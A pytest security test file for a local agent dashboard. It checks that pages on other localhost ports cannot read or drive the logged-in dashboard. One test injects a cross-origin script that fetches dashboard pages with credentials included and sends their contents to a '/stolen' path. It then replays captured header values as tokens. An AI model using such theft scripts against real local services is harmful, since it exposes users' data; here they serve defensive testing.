"""What a browser sends to another port of this machine opens nothing here."""

from __future__ import annotations

import json
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest

from tests.web.board import Board, a_home, up
from tests.web.browsing import NEEDS_CHROMIUM

PAGES = ("/", "/agent/rio", "/ledger", "/jobs", "/decisions", "/api/status", "/events")


class Listener(ThreadingHTTPServer):
    """Somebody else's, who keeps all that browsers send, and answers with a page of his own."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Answering)
        self.received: list[tuple[str, list[tuple[str, str]]]] = []
        self.page = "<!doctype html><title>mine</title>"


class Answering(BaseHTTPRequestHandler):
    server: Listener

    def do_GET(self) -> None:
        self.server.received.append((self.path, self.headers.items()))
        body = self.server.page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[Listener]:
    with Listener() as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


@pytest.fixture
def fresh(tmp_path: Path) -> Iterator[Board]:
    """One to which nobody has logged in."""
    with up(a_home(tmp_path)) as board:
        yield board


@NEEDS_CHROMIUM
def test_another_port_receives_nothing_that_opens_this_one(
    browser: Any, fresh: Board, listener: Listener
) -> None:
    port = listener.server_address[1]
    # A page that tries to get at the dashboard as the browser that has logged in.
    tries = "".join(
        f"fetch('http://{host}:{fresh.port}{path}', {{credentials: 'include'}})"
        ".then(async (a) => fetch('/stolen?' + encodeURIComponent(await a.text()))).catch(() => 0);"
        for host in ("localhost", "127.0.0.1")
        for path in PAGES
    )
    context = browser.new_context()
    page = context.new_page()
    page.goto(fresh.link)
    page.wait_for_selector("#live[data-state=live]")
    listener.page += f"<script>{tries}</script><img src='http://localhost:{fresh.port}/ledger'>"
    for host in ("localhost", "127.0.0.1", "rio.localhost"):
        page.goto(f"http://{host}:{port}/lure")
        page.wait_for_load_state("networkidle")
    # By a link of the dashboard's own page too: an agent can write one into what is shown.
    page.goto(f"{fresh.url}/ledger")
    page.evaluate(f"location.href = 'http://localhost:{port}/linked'")
    page.wait_for_url("**/linked")
    context.close()

    assert {"/lure", "/linked"} <= {path for path, _ in listener.received}
    assert not any(path.startswith("/stolen") for path, _ in listener.received)
    words = {value for _, headers in listener.received for _, value in headers}
    cookies = {
        value for _, headers in listener.received for name, value in headers if name == "Cookie"
    }
    hosts = {f"{name}:{fresh.port}" for name in ("localhost", "127.0.0.1")}
    assert fresh.host not in " ".join(words), "the name of the dashboard is not given away"
    for host in hosts | {word for word in words if "localhost" in word}:
        for cookie in {"", *cookies}:
            for path in PAGES:
                headers = [("Host", host), ("Cookie", cookie), ("X-Holdfast", "page")]
                assert fresh.raw("GET", path, headers).status >= 400, (host, cookie, path)
    body = json.dumps({"agent": "rio", "event": "info", "text": "stolen"}).encode()
    for word in words | {part.partition("=")[2] for part in cookies}:
        headers = [("Host", f"localhost:{fresh.port}"), ("X-Holdfast-Token", word)]
        headers += [("Content-Type", "application/json"), ("Content-Length", str(len(body)))]
        assert fresh.raw("POST", "/api/ledger/write", headers, body).status >= 400, word


def test_the_cookie_is_of_no_use_on_a_host_that_other_ports_share(board: Board) -> None:
    assert board.get("/api/status").status == 200
    for host in ("localhost", "127.0.0.1", "[::1]"):
        for path in PAGES:
            headers = [("Host", f"{host}:{board.port}"), ("Cookie", board.cookie)]
            assert board.raw("GET", path, headers).status == 401, (host, path)


def test_a_link_is_not_used_up_on_such_a_host(fresh: Board) -> None:
    host = [("Host", f"localhost:{fresh.port}"), ("Accept", "text/html")]
    refused = fresh.raw("GET", f"/login?key={fresh.key}", host)
    assert refused.status == 401
    assert b"address of its own" in refused.body
    assert fresh.host.encode() not in refused.body
    fresh.log_in()


@NEEDS_CHROMIUM
def test_who_has_logged_in_reads_and_changes_in_every_tab(browser: Any, fresh: Board) -> None:
    fresh.shell("task", "add", "--agent", "rio", "Look")
    context = browser.new_context()
    first = context.new_page()
    first.goto(fresh.link)
    first.wait_for_selector("#live[data-state=live]")
    assert first.url == f"{fresh.url}/", "the token is gone from the address"
    second = context.new_page()  # as from a bookmark
    second.goto(f"{fresh.url}/agent/rio")
    second.wait_for_selector("#live[data-state=live]")
    second.click("button[data-post='task/start']")
    second.wait_for_selector("button[data-post='task/done']")
    context.close()


@NEEDS_CHROMIUM
def test_without_scripts_pages_and_links_work(browser: Any, fresh: Board) -> None:
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(fresh.link)
    page.click("nav a[href='/ledger']")
    assert page.url == f"{fresh.url}/ledger"
    assert "hello" in page.inner_text("main") or "rio" in page.inner_text("main")
    context.close()


def test_the_address_stays_with_the_home(tmp_path: Path) -> None:
    shell = a_home(tmp_path)
    with up(shell, "--port", "0") as first:
        name = first.host.partition(":")[0]
    with up(shell, "--port", "0") as second:
        assert second.host.partition(":")[0] == name
